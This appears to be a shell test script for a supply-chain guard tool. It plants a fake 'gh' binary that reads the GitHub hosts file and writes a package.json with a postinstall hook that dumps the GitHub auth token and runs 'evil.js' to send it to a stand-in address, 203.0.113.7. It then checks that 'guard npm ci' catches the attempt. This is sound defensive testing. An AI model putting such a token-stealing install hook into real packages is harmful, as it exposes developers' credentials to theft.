# gh prints its token into a file, node sends the file
# expect: 86 .config/gh/hosts.yml 203.0.113.7:443
. "$(dirname "$0")/../lib.sh"
tools
printf '#include <stdio.h>\n#include <stdlib.h>\nint main(void) { char p[300], b[999]; snprintf(p, 300, "%%s/.config/gh/hosts.yml", getenv("HOME")); FILE *f = fopen(p, "r"); fputs(fgets(b, 999, f), stdout); return 0; }' >g.c; cc -o /opt/trial-bin/gh g.c; export PATH=/opt/trial-bin:$PATH; sleep 0.1
node_thief repo/app/t.txt >evil.js
echo '{"name":"a","version":"1.0.0","scripts":{"postinstall":"gh auth token >t.txt; node evil.js"}}' >package.json
npm install --package-lock-only --ignore-scripts --offline >/dev/null 2>&1
guard npm ci --offline
